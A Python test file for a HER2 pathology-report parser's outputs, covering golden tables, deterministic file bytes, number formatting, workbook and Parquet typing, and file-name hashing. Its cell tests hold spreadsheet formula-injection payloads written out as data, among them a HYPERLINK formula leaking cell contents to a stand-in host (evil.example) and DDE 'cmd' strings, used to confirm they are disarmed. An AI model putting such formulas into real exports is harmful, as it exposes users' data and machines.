"""Rows and files: golden tables, the same bytes in any order, clean cells, and a check that catches our own faults."""

from __future__ import annotations

import csv
import hashlib
import io
import random
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from outputs_factory import SETTINGS, cohort, finding, option, placed, report_id, sha

from her2parse.errors import ConfigError
from her2parse.files import write_atomic
from her2parse.model import Batch, Patient, ReportHeader, ReviewNote, SourceFile
from her2parse.outputs import (
    Rows,
    RunSettings,
    counts,
    frame,
    guard,
    rows,
    schema,
    tables,
    unguard,
    workbook,
    write,
    write_tables,
)
from her2parse.outputs.lines import lines
from her2parse.outputs.text import clean, number

GOLDEN = Path(__file__).parent / "golden"
TOLD: dict[str, Any] = {"knowledge_version": "2026.10", "knowledge_hash": "a" * 64, "versions": {"pandas": "3.0"}}


def shuffled(seed: int) -> tuple[tuple[Patient, ...], tuple[Any, ...], Batch]:
    """The cohort with everything that has no order in another order."""
    patients, options, batch = cohort()
    turn = random.Random(seed)

    def mix(items: tuple[Any, ...]) -> tuple[Any, ...]:
        return tuple(turn.sample(items, len(items)))

    mixed = []
    for patient in patients:
        reports = tuple(
            replace(r, result=replace(r.result, findings=mix(r.result.findings), calls=mix(r.result.calls)))
            for r in mix(patient.reports)
        )
        mixed.append(replace(patient, reports=reports, mechanisms=mix(patient.mechanisms), notes=mix(patient.notes)))
    return mix(tuple(mixed)), mix(options), replace(batch, files=mix(batch.files))


@pytest.mark.parametrize("name", schema.TABLES)
def test_golden_tables(name: str) -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    assert tables.tsv(name, made[name]).decode() == (GOLDEN / f"{name}.tsv").read_text("utf-8")


@pytest.mark.parametrize("seed", range(4))
def test_the_same_bytes_whatever_the_order_of_the_inputs(seed: int, tmp_path: Path) -> None:
    for folder, (patients, options, batch) in (("a", cohort()), ("b", shuffled(seed))):
        write(tmp_path / folder, patients=patients, options=options, batch=batch, settings=SETTINGS, crops={}, **TOLD)
    files = {path.relative_to(tmp_path / "a") for path in (tmp_path / "a").rglob("*") if path.is_file()}
    assert len(files) == 10 + 10 + 1 + 1 + 1 + 3 + 4  # TSV, Parquet, workbook, run.json, index, patients, FHIR
    assert files == {path.relative_to(tmp_path / "b") for path in (tmp_path / "b").rglob("*") if path.is_file()}
    for file in sorted(files):
        assert (tmp_path / "a" / file).read_bytes() == (tmp_path / "b" / file).read_bytes(), file


def test_every_input_has_a_row_and_three_calls() -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    assert {row["source_file"] for row in made["reports"]} == {file.source_file for file in batch.files}
    for one in {row["report_id"] for row in made["reports"]}:
        axes = [row["axis"] for row in made["her2"] if row["report_id"] == one]
        assert axes == ["amplification", "mutation", "overexpression"]


def test_review_status_and_review_rows_agree() -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    asked = {row["report_id"] for row in made["review"]}
    for row in made["reports"]:
        assert (row["status"] == "parsed") == (row["report_id"] not in asked), row


def test_a_note_of_the_cohort_floor_turns_its_report_into_review() -> None:
    note = (report_id("a.pdf"), ReviewNote("date_conflict", "The sheet says another date."))
    patient = Patient("P", (placed("a.pdf", "P"),), notes=(note,))
    made = rows([patient], [], Batch(()), SETTINGS)
    assert [row["status"] for row in made["reports"]] == ["review"]


def test_every_code_on_a_finding_has_its_review_row_once() -> None:
    found = finding("a.pdf", review=("garbled_text", "unknown_assay"))
    said = ReviewNote("garbled_text", "The page is garbled.", 1, "x", found.finding_id)
    patient = Patient("P", (placed("a.pdf", "P", (found,), notes=(said,)),))
    made = rows([patient], [], Batch(()), SETTINGS)
    assert [(r["code"], r["finding_id"]) for r in made["review"]] == [
        ("garbled_text", found.finding_id),
        ("unknown_assay", found.finding_id),
    ]


def test_a_duplicate_under_another_id_has_calls_but_no_findings() -> None:
    found = finding("b.pdf")
    report = placed("b.pdf", "P", (found,), duplicate_of=report_id("a.pdf"))
    made = rows([Patient("P", (report,))], [], Batch(()), SETTINGS)
    assert made["findings"] == []
    assert [row["n_findings"] for row in made["reports"]] == [0]
    assert len(made["her2"]) == 3
    assert all(report_id("a.pdf") in str(row["basis"]) and not row["finding_ids"] for row in made["her2"])


def test_counts_add_up_and_a_file_counts_as_its_worst_report() -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    number_of = counts(made, batch)
    assert number_of.files == number_of.parsed + number_of.review + number_of.failed == 6
    assert (number_of.failed, number_of.ignored, number_of.patients) == (2, 1, 3)
    two = placed("a.pdf", "P", part=2, report_id=report_id("a.pdf") + "-2", status="review", reasons=("garbled_text",))
    made = rows([Patient("P", (placed("a.pdf", "P"), two))], [], Batch(()), SETTINGS)
    number_of = counts(made, Batch(()))
    assert (number_of.files, number_of.reports, number_of.parsed, number_of.review) == (1, 2, 0, 1)


def test_empty_cohort_and_zero_findings(tmp_path: Path) -> None:
    for name, patients in (("empty", ()), ("zero", (Patient("P", (placed("a.pdf", "P"),)),))):
        out = tmp_path / name
        result = write(out, patients=patients, options=(), batch=Batch(()), settings=SETTINGS, crops={}, **TOLD)
        assert result.findings == 0
        assert (out / "findings.tsv").read_text().count("\n") == 1
        assert openpyxl.load_workbook(out / "tables.xlsx")["findings"].max_row == 1


# ── cells ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("value", "text"),
    [(0.012, "0.012"), (1e-9, "0.000000001"), (0.123456789, "0.123457"), (1.0, "1"), (100.0, "100"), (1e6, "1000000"),
     (0.1 + 0.2, "0.3"), (612.284, "612.284"), (-0.0, "0"), (0, "0"), (7, "7")],
)  # fmt: skip
def test_numbers(value: float, text: str) -> None:
    assert number(value) == text


@given(st.floats(min_value=-1e12, max_value=1e12, allow_nan=False))
def test_numbers_are_plain_and_close(value: float) -> None:
    text = number(value)
    assert "e" not in text.lower()
    assert float(text) == pytest.approx(value, rel=1e-5, abs=1e-300)


@given(st.text(max_size=40))
def test_guard_is_undone_and_leaves_no_formula(text: str) -> None:
    assert unguard(guard(text)) == text
    cell = guard(clean(text))
    assert not cell.startswith(("=", "@", "\t", "\r"))


@pytest.mark.parametrize("text", ["+3", "-1.5", "++", "-", "+", "- 2 %", "-124C>T", "3+", "p.S310F", "1,5"])
def test_guard_leaves_values_alone(text: str) -> None:
    assert guard(text) == text


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "+A1", "-cmd|' /C calc'!A0", "--1-1", "'x"])
def test_guard_disarms_formulas(text: str) -> None:
    assert guard(text) == "'" + text


@given(st.text(max_size=60))
def test_clean_gives_one_line_without_control_or_bidi(text: str) -> None:
    cell = clean(text)
    assert cell == " ".join(cell.split())
    assert not set(cell) & set("\t\n\r\x00\x85\u2028\u202e\u2066\u200f")
    assert clean(cell) == cell


HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "tab\there\r\nand\x0bthere\x00",
    "\u202ereversed\u2066",
    '"opening quote and a , and a ; inside',
    "x" * 10_000,
    "\ud800 half a character",
)


def written_workbook(made: Rows, settings: dict[str, str], versions: dict[str, str]) -> bytes:
    stream = io.BytesIO()
    workbook.write_workbook(stream, lines(made), settings, versions)
    return stream.getvalue()


def hostile_patient(text: str) -> Patient:
    found = finding("h.pdf", gene="ERBB2", written=text, copy_number_text=text)
    place = replace(found.statement.evidence, quote=text)
    found = replace(found, finding_id="Rh-1", statement=replace(found.statement, evidence=place))
    header = ReportHeader(lab=text, assay=text)
    return Patient(
        "P", (placed("h.pdf", "P", (found,), header=header, diagnosis=text, source_file=f"{text[:50]}.pdf"),)
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_data_in_tsv_workbook_and_parquet(text: str, tmp_path: Path) -> None:
    made = rows([hostile_patient(text)], [], Batch(()), SETTINGS)
    write_tables(tmp_path, made, batch=Batch(()), settings=SETTINGS, **TOLD)
    plain = clean(text)
    with (tmp_path / "findings.tsv").open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle, delimiter="\t")
    assert unguard(row["as_written"]) == unguard(row["quote"]) == plain
    assert not row["as_written"].startswith(("=", "+", "-", "@"))
    read = pd.read_csv(tmp_path / "findings.tsv", sep="\t", dtype=str, keep_default_na=False)
    assert [unguard(cell) for cell in read["quote"]] == [plain]
    book = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    kinds = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line}
    assert "f" not in kinds
    at = [cell.value for cell in book["findings"][1]].index("as_written") + 1
    assert book["findings"].cell(2, at).value == plain
    archive = zipfile.ZipFile(tmp_path / "tables.xlsx")
    assert not any("hyperlink" in archive.read(name).decode("utf-8", "ignore").lower().replace("=hyperlink(", "")
                   for name in archive.namelist() if "worksheets" in name)  # fmt: skip
    assert list(pd.read_parquet(tmp_path / "parquet" / "findings.parquet")["as_written"]) == [plain]


def test_a_cell_that_a_sheet_cannot_hold_is_cut_and_says_so() -> None:
    made = rows([hostile_patient("y" * 40_000)], [], Batch(()), SETTINGS)
    book = openpyxl.load_workbook(io.BytesIO(written_workbook(made, {}, {})))
    at = [cell.value for cell in book["findings"][1]].index("quote") + 1
    assert str(book["findings"].cell(2, at).value).endswith("the whole text is in the TSV)")


# ── workbook, Parquet, frames ─────────────────────────────────────────────────────────────────────────────────────


def test_the_workbook_has_its_sheets_frozen_filtered_and_described() -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    book = openpyxl.load_workbook(io.BytesIO(written_workbook(made, {"as_of": "2026-11-01"}, {"pandas": "3"})))
    assert book.sheetnames == ["SETTINGS", "DATA_VERSIONS", "COLUMNS", *schema.TABLES]
    for sheet in book:
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref
    described = {(row[0].value, row[1].value) for row in book["COLUMNS"].iter_rows(min_row=2)}
    assert described == {(t.name, c.name) for t in schema.tables().values() for c in t.columns}
    for name in schema.TABLES:
        assert book[name].max_row == len(made[name]) + 1
    vaf = [cell.value for cell in book["findings"][1]].index("vaf") + 1
    assert 0.231 in [book["findings"].cell(at, vaf).value for at in range(2, book["findings"].max_row + 1)]


def test_parquet_and_frame_are_typed(tmp_path: Path) -> None:
    patients, options, batch = cohort()
    made = rows(patients, options, batch, SETTINGS)
    write_tables(tmp_path, made, batch=batch, settings=SETTINGS, **TOLD)
    read = pd.read_parquet(tmp_path / "parquet" / "findings.parquet")
    assert str(read["vaf"].dtype) == "float64"
    assert read["hgvs_p"].isna().sum() == len(read) - 1
    framed = frame("findings", made["findings"])
    assert (str(framed["vaf"].dtype), str(framed["page"].dtype)) == ("Float64", "Int64")
    assert list(framed["finding_id"]) == list(read["finding_id"])


def test_a_killed_writer_leaves_no_half_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "findings.tsv"
    target.write_text("old")
    monkeypatch.setattr(Path, "replace", lambda *_: (_ for _ in ()).throw(OSError("stop")))
    with pytest.raises(OSError, match="stop"):
        write_atomic(target, b"new")
    assert target.read_text() == "old"
    assert [path.name for path in tmp_path.iterdir()] == ["findings.tsv"]


# ── check ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"kind": "mutation"}, "column kind: 'mutation' is none of small_variant"),
        ({"vaf": float("nan")}, "column vaf: nan is not a finite number"),
        ({"vaf": "1.2"}, "column vaf: '1.2' is not a finite number"),
        ({"page": 1.0}, "column page: 1.0 is not a whole number"),
        ({"collected_on": "22/11/2026"}, "column collected_on: '22/11/2026' is not a date"),
        ({"report_id": ""}, "column report_id: is empty"),
        ({"gene": 7}, "column gene: 7 is not text"),
    ],
)
def test_a_row_that_breaks_the_schema_is_our_fault(change: dict[str, Any], message: str) -> None:
    patients, options, batch = cohort()
    good = rows(patients, options, batch, SETTINGS)["findings"]
    with pytest.raises(schema.TableError, match="H220") as caught:
        schema.check("findings", [good[0] | change])
    assert message in str(caught.value)
    assert caught.value.exit_code == 1


def test_other_columns_and_a_repeated_key_are_our_fault() -> None:
    patients, options, batch = cohort()
    good = rows(patients, options, batch, SETTINGS)["findings"]
    with pytest.raises(schema.TableError, match="extra"):
        schema.check("findings", [{**good[0], "extra": ""}])
    with pytest.raises(schema.TableError, match="name two rows"):
        schema.check("findings", [good[0], good[0]])


def test_the_same_option_twice_is_one_row() -> None:
    found = finding("a.pdf")
    patient = Patient("P", (placed("a.pdf", "P", (found,)),))
    one = option("P", found)
    assert len(rows([patient], [one, one], Batch(()), SETTINGS)["actionability"]) == 1


# ── privacy ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_file_names_can_be_hashed_everywhere(tmp_path: Path) -> None:
    name = "ward 3/Doe_Jane.pdf"
    note = ReviewNote("unknown_assay", f"The file {name} (Doe_Jane) names no assay.")
    report = placed(name, "K1", (finding(name),), notes=(note,), status="review")
    batch = Batch((SourceFile(name, sha(name), 1, "0"), SourceFile("lost/Doe_Jane.pdf", "", 0, "0")), ("Doe_Jane.txt",))
    settings = RunSettings("2026-11-01", file_names="hash", name_key=b"key")
    write(tmp_path, patients=[Patient("K1", (report,))], options=(), batch=batch, settings=settings, crops={}, **TOLD)
    for path in tmp_path.rglob("*"):
        if path.suffix in (".tsv", ".html", ".json"):
            assert "Doe" not in path.read_text("utf-8"), path
    assert settings.shown(name) != hashlib.sha256(name.encode()).hexdigest()[:16]
    with pytest.raises(ConfigError, match="no key"):
        RunSettings("2026-11-01", file_names="hash")
